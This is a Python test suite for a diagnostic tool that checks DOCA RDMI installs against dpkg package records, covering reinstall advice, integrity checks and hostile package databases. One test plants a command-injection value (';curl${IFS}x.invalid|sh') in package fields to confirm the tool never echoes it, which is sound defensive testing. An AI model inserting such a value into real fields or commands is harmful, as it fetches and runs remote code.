#!/usr/bin/python3
"""Fixes from the package manager's records, and install-integrity, against the fixture roots
with dpkg databases (tests/fixtures/doca/make_doca_install.py dpkg-*), run as the program runs.

  header-names-package      a deleted RDMI header: the fix names the package that lists it, its
                            version, the file and `apt-get install --reinstall PACKAGE`
  dpacc-names-package       a deleted dpacc that its package still lists: the same, for dpacc
  module-names-package      a .pc of another release (doca-dpa 3.2.1025 among 3.3.0105): the
                            stack's fix names the package that lists it and its version
  no-database-says-so       a root with no dpkg database keeps the generic fix and says that no
                            database was found (var/lib/dpkg/status does not exist)
  healthy-reads-nothing     on a complete root the report opens no package database: the same
                            run with var/lib/dpkg made unreadable (mode 000, run as nobody)
                            gives the same document
  integrity-fails-on-md5    report --integrity and check --require-integrity fail on the root
                            whose library differs from its md5 (naming the library, its package
                            and the reinstall command) and pass on the complete root
  integrity-without-db      --integrity on a root without a database: skip, the reason stated
  root-never-changed        every file and directory of each dpkg root (names, sizes, mtimes,
                            modes, owners, link targets) is the same after report, report
                            --integrity, check --require-integrity and env as before
  hostile-database          a status file of binary junk, one over the size cap (sparse), a
                            truncated stanza, a .list that is a FIFO, a link inside var/lib/dpkg
                            owned by nobody: each run ends with a verdict (exit 0-3) and valid
                            JSON, never a crash or a hang, and the forged link's list is not
                            believed
  names-dpkg-never-writes   a Package, Architecture or Version field dpkg would refuse (a shell
                            command after ';', a line feed): the stanza is skipped, so no fix
                            or reinstall command ever carries the forged text
  status-parse-bounded      a status file of 60 MiB of blank lines and one of 10 MiB of
                            one-letter lines: a verdict within the run's --timeout, the parse
                            never holding a copy of every line
  lists-bounded             package lists of 12 million short paths together: the database is
                            refused (a stated cap) within --timeout, without gigabytes of memory

    test_package_records.py --binary PATH --fixtures DIR [-k SUBSTRING]
"""

import json
import os
import pwd
import shutil
import stat
import subprocess
import sys
from pathlib import Path

from hardening_suite import run_tests

NOBODY = pwd.getpwnam("nobody")
TESTS = []
POSTER = "/opt/mellanox/doca/include/doca_rdmi_poster.h"


def test(fn):
    TESTS.append(fn)
    return fn


def run(cfg, args, user=None, timeout=60):
    env = {k: v for k, v in os.environ.items()
           if k in ("PATH", "ASAN_OPTIONS", "UBSAN_OPTIONS", "LSAN_OPTIONS")}
    pre = None
    if user is not None:
        def pre():
            os.setgroups([])
            os.setgid(user.pw_gid)
            os.setuid(user.pw_uid)
    return subprocess.run([str(cfg.binary)] + args, env=env, capture_output=True, text=True,
                          timeout=timeout, preexec_fn=pre)


def root(cfg, name):
    return cfg.fixtures / "roots" / name


def copy_root(cfg, name, scratch):
    dest = scratch / name
    shutil.copytree(root(cfg, name), dest, symlinks=True)
    return dest


def report(cfg, root_dir, *extra, user=None):
    proc = run(cfg, ["report", "--json", "--root", str(root_dir), *extra], user=user)
    try:
        return proc, json.loads(proc.stdout)
    except json.JSONDecodeError:
        return proc, None


def check_of(document, check_id):
    for check in (document or {}).get("checks", []):
        if check["id"] == check_id:
            return check
    return None


@test
def header_names_package(cfg, scratch):
    proc, doc = report(cfg, root(cfg, "dpkg-header-deleted"))
    if doc is None:
        return [f"no JSON (exit {proc.returncode}): {proc.stderr[-300:]}"]
    check = check_of(doc, "rdmi-headers")
    want = (f"package libdoca-sdk-rdmi-dev (version 3.3.0105-1) lists {POSTER}, but {POSTER} "
            "is missing: reinstall libdoca-sdk-rdmi-dev "
            "(apt-get install --reinstall libdoca-sdk-rdmi-dev)")
    problems = []
    if check is None or check["status"] != "fail":
        problems.append(f"rdmi-headers: {check}")
    elif check.get("remediation") != want:
        problems.append(f"fix: {check.get('remediation')!r}, want {want!r}")
    text = run(cfg, ["--root", str(root(cfg, "dpkg-header-deleted"))])
    if "apt-get install --reinstall libdoca-sdk-rdmi-dev" not in text.stdout:
        problems.append("the text report does not print the reinstall command")
    return problems


@test
def dpacc_names_package(cfg, scratch):
    proc, doc = report(cfg, root(cfg, "dpkg-dpacc-deleted"))
    if doc is None:
        return [f"no JSON (exit {proc.returncode})"]
    check = check_of(doc, "dpacc")
    want = ("package dpacc (version 1.12.0.26) lists /opt/mellanox/doca/tools/dpacc, but "
            "/opt/mellanox/doca/tools/dpacc is missing: reinstall dpacc "
            "(apt-get install --reinstall dpacc)")
    if check is None or check.get("remediation") != want:
        return [f"dpacc: {check}"]
    return []


@test
def module_names_package(cfg, scratch):
    proc, doc = report(cfg, root(cfg, "dpkg-dpa-mismatch"))
    check = check_of(doc, "rdmi-stack-versions")
    want = "doca-dpa.pc is from package libdoca-sdk-dpa-dev (version 3.2.1025-1)"
    if check is None or check["status"] != "fail" or want not in check.get("remediation", ""):
        return [f"rdmi-stack-versions: {check}"]
    # Without a database the same mismatch names no package (and says nothing of one).
    proc, doc = report(cfg, root(cfg, "dpa-mismatch"))
    check = check_of(doc, "rdmi-stack-versions")
    if check is None or "package" in check.get("remediation", ""):
        return [f"dpa-mismatch without a database: {check}"]
    return []


@test
def no_database_says_so(cfg, scratch):
    proc, doc = report(cfg, root(cfg, "header-missing"))
    if doc is None:
        return [f"no JSON (exit {proc.returncode})"]
    check = check_of(doc, "rdmi-headers")
    want = ("partial install: reinstall the DOCA RDMI development package (no package database "
            "to name the package: no dpkg database: /var/lib/dpkg/status does not exist)")
    if check is None or check.get("remediation") != want:
        return [f"rdmi-headers: {check}"]
    return []


@test
def healthy_reads_nothing(cfg, scratch):
    # As nobody, a mode-000 var/lib/dpkg cannot be read: had the healthy run opened the
    # database, its answer (and so the document) would differ from the readable run's.
    tree = copy_root(cfg, "dpkg-complete", scratch)
    proc1, doc1 = report(cfg, tree, user=NOBODY)
    os.chmod(tree / "var" / "lib" / "dpkg", 0)
    try:
        proc2, doc2 = report(cfg, tree, user=NOBODY)
    finally:
        os.chmod(tree / "var" / "lib" / "dpkg", 0o755)
    if doc1 is None or doc2 is None:
        return [f"no JSON ({proc1.returncode}, {proc2.returncode})"]
    for doc in (doc1, doc2):
        doc["run"].pop("duration_ms", None)
        doc["run"].pop("generated_at", None)
    if doc1["checks"] != doc2["checks"]:
        return ["the healthy report changed when the package database became unreadable"]
    # The same run with --integrity does read it: so the comparison above could tell.
    proc3, doc3 = report(cfg, tree, "--integrity", user=NOBODY)
    os.chmod(tree / "var" / "lib" / "dpkg", 0)
    try:
        proc4, doc4 = report(cfg, tree, "--integrity", user=NOBODY)
    finally:
        os.chmod(tree / "var" / "lib" / "dpkg", 0o755)
    if doc3 is None or doc4 is None:
        return ["no JSON from --integrity"]
    if check_of(doc3, "install-integrity") == check_of(doc4, "install-integrity"):
        return ["--integrity did not notice the unreadable database: the test cannot tell"]
    return []


@test
def integrity_fails_on_md5(cfg, scratch):
    problems = []
    proc, doc = report(cfg, root(cfg, "dpkg-lib-damaged"), "--integrity")
    if doc is None:
        return [f"no JSON (exit {proc.returncode})"]
    check = check_of(doc, "install-integrity")
    lib = "/opt/mellanox/doca/lib/x86_64-linux-gnu/libdoca_rdmi.so.3.3.0105"
    if check is None or check["status"] != "fail":
        problems.append(f"install-integrity: {check}")
    else:
        if f"{lib} (library, doca-sdk-rdmi 3.3.0105-1)" not in check["message"]:
            problems.append(f"message: {check['message']!r}")
        if "apt-get install --reinstall doca-sdk-rdmi:amd64" not in check["remediation"]:
            problems.append(f"remediation: {check['remediation']!r}")
    if proc.returncode != 1:
        problems.append(f"report --integrity exit {proc.returncode}, want 1")
    files = {f["path"]: f for f in doc.get("install_integrity", {}).get("files", [])}
    if files.get(lib, {}).get("verdict") != "differs":
        problems.append(f"section: {files.get(lib)}")
    # Without --integrity the same root passes: the check is opt-in.
    plain, plain_doc = report(cfg, root(cfg, "dpkg-lib-damaged"))
    if plain_doc is None or check_of(plain_doc, "install-integrity") is not None:
        problems.append("install-integrity ran without --integrity")
    gate = run(cfg, ["check", "--json", "--require-integrity", "--root",
                     str(root(cfg, "dpkg-lib-damaged"))])
    if gate.returncode != 1:
        problems.append(f"check --require-integrity exit {gate.returncode}, want 1")
    good, good_doc = report(cfg, root(cfg, "dpkg-complete"), "--integrity")
    good_check = check_of(good_doc, "install-integrity") if good_doc else None
    if good_check is None or good_check["status"] != "pass":
        problems.append(f"complete root: {good_check}")
    gate = run(cfg, ["check", "--require-integrity", "--root", str(root(cfg, "dpkg-complete"))])
    if gate.returncode != 0:
        problems.append(f"check --require-integrity on the complete root: exit {gate.returncode}")
    return problems


@test
def integrity_without_db(cfg, scratch):
    proc, doc = report(cfg, root(cfg, "complete-3.3"), "--integrity")
    check = check_of(doc, "install-integrity") if doc else None
    if check is None or check["status"] != "skip":
        return [f"install-integrity: {check}"]
    if "/var/lib/dpkg/status does not exist" not in check["message"]:
        return [f"message: {check['message']!r}"]
    return []


def snapshot(top):
    out = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st = os.lstat(p)
            link = os.readlink(p) if stat.S_ISLNK(st.st_mode) else None
            out[str(p.relative_to(top))] = (st.st_mode, st.st_uid, st.st_gid, st.st_size,
                                            st.st_mtime_ns, link)
    st = os.lstat(top)
    out["."] = (st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns)
    return out


@test
def root_never_changed(cfg, scratch):
    problems = []
    for name in ("dpkg-complete", "dpkg-header-deleted", "dpkg-lib-damaged"):
        tree = copy_root(cfg, name, scratch)
        before = snapshot(tree)
        for args in (["report", "--json"], ["report", "--integrity"],
                     ["check", "--require-integrity", "--require-consistent"], ["env"]):
            run(cfg, args + ["--root", str(tree)])
        after = snapshot(tree)
        if before != after:
            added = sorted(set(after) - set(before))
            changed = sorted(k for k in before if after.get(k) != before[k])
            problems.append(f"{name}: added {added[:5]}, changed {changed[:5]}")
        if len(before) < 40:
            problems.append(f"{name}: only {len(before)} entries snapshotted")
    return problems


def verdict_and_json(cfg, tree, *extra):
    proc, doc = report(cfg, tree, *extra)
    if proc.returncode not in (0, 1, 2, 3) or doc is None:
        return f"exit {proc.returncode}, JSON {'ok' if doc else 'invalid'}: {proc.stderr[-200:]}"
    return None


@test
def hostile_database(cfg, scratch):
    problems = []
    status_of = lambda t: t / "var" / "lib" / "dpkg" / "status"
    cases = {}

    def case(label):
        tree = copy_root(cfg, "dpkg-header-deleted", scratch / label.replace(" ", "-"))
        cases[label] = tree
        return tree

    tree = case("binary status")
    status_of(tree).write_bytes(b"\x7fELF\x00\x01" + os.urandom(4096))
    tree = case("huge status")
    with open(status_of(tree), "r+b") as f:
        f.truncate(200 << 20)  # sparse: 200 MiB of NULs, over the 64 MiB cap
    tree = case("truncated stanza")
    text = status_of(tree).read_text()
    status_of(tree).write_text(text[: text.index("libdoca-sdk-rdmi-dev") + 30])
    tree = case("fifo list")
    lst = tree / "var/lib/dpkg/info/libdoca-sdk-rdmi-dev.list"
    lst.unlink()
    os.mkfifo(lst)
    tree = case("foreign link")
    forged = tree / "srv-forged.list"
    forged.write_text("/.\n" + POSTER + "\n")
    lst = tree / "var/lib/dpkg/info/libdoca-sdk-rdmi-dev.list"
    lst.unlink()
    os.symlink("/srv-forged.list", lst)
    os.lchown(lst, NOBODY.pw_uid, NOBODY.pw_gid)
    # The forged list is not believed: no package is named from it.
    for label, tree in cases.items():
        for extra in ((), ("--integrity",)):
            why = verdict_and_json(cfg, tree, *extra)
            if why:
                problems.append(f"{label} {' '.join(extra)}: {why}")
    proc, doc = report(cfg, cases["foreign link"])
    fix = check_of(doc, "rdmi-headers")["remediation"] if doc else ""
    if "libdoca-sdk-rdmi-dev" in fix:
        problems.append(f"the forged list was believed: {fix!r}")
    proc, doc = report(cfg, cases["huge status"])
    fix = check_of(doc, "rdmi-headers")["remediation"] if doc else ""
    if "the package database could not be used: /var/lib/dpkg/status" not in fix:
        problems.append(f"huge status: {fix!r}")
    return problems


def status_edit(tree, package, edit):
    """Applies `edit` to the stanza of `package` in the status file of `tree`."""
    path = tree / "var" / "lib" / "dpkg" / "status"
    text = path.read_text()
    start = text.index(f"Package: {package}\n")
    end = text.find("\n\n", start)
    end = len(text) if end < 0 else end
    path.write_text(text[:start] + edit(text[start:end]) + text[end:])


def rename_info(tree, old, new):
    info = tree / "var" / "lib" / "dpkg" / "info"
    for path in list(info.iterdir()):
        if path.name.startswith(old + "."):
            path.rename(info / (new + path.name[len(old):]))


@test
def names_dpkg_never_writes(cfg, scratch):
    problems = []
    shell = ";curl${IFS}x.invalid|sh"
    # A Package name with a shell command: the header's fix would say "apt-get install
    # --reinstall <name>" with it.
    tree = copy_root(cfg, "dpkg-header-deleted", scratch / "name")
    status_edit(tree, "libdoca-sdk-rdmi-dev",
                lambda s: s.replace("Package: libdoca-sdk-rdmi-dev",
                                    "Package: libdoca-sdk-rdmi-dev" + shell))
    rename_info(tree, "libdoca-sdk-rdmi-dev", "libdoca-sdk-rdmi-dev" + shell)
    # An Architecture with one (the Multi-Arch: same library's ":arch" qualifier).
    arch = copy_root(cfg, "dpkg-lib-damaged", scratch / "arch")
    status_edit(arch, "doca-sdk-rdmi",
                lambda s: s.replace("Architecture: amd64", "Architecture: amd64" + shell))
    rename_info(arch, "doca-sdk-rdmi:amd64", "doca-sdk-rdmi:amd64" + shell)
    # A Version continued on a second line that reads as a verdict.
    version = copy_root(cfg, "dpkg-header-deleted", scratch / "version")
    status_edit(version, "libdoca-sdk-rdmi-dev",
                lambda s: s.replace("Version: 3.3.0105-1",
                                    "Version: 3.3.0105-1\n PASS  rdmi-headers  all good"))
    for label, where, args in (("name", tree, ()), ("arch", arch, ("--integrity",)),
                               ("version", version, ())):
        proc, doc = report(cfg, where, *args)
        if doc is None:
            problems.append(f"{label}: no JSON (exit {proc.returncode})")
            continue
        text = json.dumps(doc["checks"])
        if "curl" in text or "all good" in text:
            problems.append(f"{label}: the forged field reached a check: {proc.stdout[:0]}"
                            + next(c["remediation"] or c["message"] for c in doc["checks"]
                                   if "curl" in json.dumps(c) or "all good" in json.dumps(c)))
    return problems


@test
def status_parse_bounded(cfg, scratch):
    problems = []
    for label, body, size in (("blank lines", b"\n", 60 << 20), ("letters", b"a\n", 5 << 20)):
        tree = copy_root(cfg, "dpkg-header-deleted", scratch / label.replace(" ", "-"))
        with open(tree / "var" / "lib" / "dpkg" / "status", "ab") as f:
            f.write(b"\n" + body * size)
        code, doc, rss = measured(cfg, ["report", "--json", "--timeout", "4", "--root", str(tree)])
        if code == 2 or doc is None or check_of(doc, "rdmi-headers") is None:
            problems.append(f"{label}: exit {code}, no verdict")
        if rss > 400 << 10:
            problems.append(f"{label}: {rss >> 10} MiB resident for a {size >> 20} MiB file")
    return problems


def measured(cfg, args):
    """Exit code, JSON document (or None) and peak resident KiB of one run."""
    with open(os.devnull, "wb") as null:
        proc = subprocess.Popen([str(cfg.binary)] + args, stdout=subprocess.PIPE, stderr=null,
                                env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")})
        out = proc.stdout.read()
        _, status, usage = os.wait4(proc.pid, 0)
        proc.returncode = os.waitstatus_to_exitcode(status)
    try:
        doc = json.loads(out)
    except json.JSONDecodeError:
        doc = None
    return proc.returncode, doc, usage.ru_maxrss


@test
def lists_bounded(cfg, scratch):
    tree = copy_root(cfg, "dpkg-header-deleted", scratch / "lists")
    admin = tree / "var" / "lib" / "dpkg"
    stanzas = []
    for n in range(12):
        stanzas.append(f"Package: junk{n}\nStatus: install ok installed\nVersion: 1\n")
        with open(admin / "info" / f"junk{n}.list", "w") as f:
            f.write("".join(f"/{n}{i:x}\n" for i in range(1 << 20)))
    with open(admin / "status", "a") as f:
        f.write("\n" + "\n".join(stanzas))
    # The plain build meets the cap in well under a second on a quiet machine; 30 s leaves room
    # for a machine whose two cores are shared with builds (4 s was seen to pass the deadline
    # at a load average of 9). A sanitized build keeps 4 s: either bound shows the same thing.
    sanitized = bool(os.environ.get("RDMI_TEST_SANITIZED"))
    timeout = "4" if sanitized else "30"
    code, doc, rss = measured(cfg, ["report", "--json", "--timeout", timeout, "--root", str(tree)])
    problems = []
    if code == 2 or doc is None:
        return [f"exit {code}, no verdict"]
    fix = check_of(doc, "rdmi-headers")["remediation"]
    # Bounded either way: by the cap on listed paths, or (a sanitized build, several times
    # slower) by the run's deadline first; never read to the end.
    bound = "paths" in fix or (sanitized and "deadline" in fix)
    if "the package database could not be used" not in fix or not bound:
        problems.append(f"fix: {fix!r}")
    if rss > 600 << 10:
        problems.append(f"{rss >> 10} MiB resident")
    return problems


if __name__ == "__main__":
    sys.exit(run_tests(TESTS, __doc__))
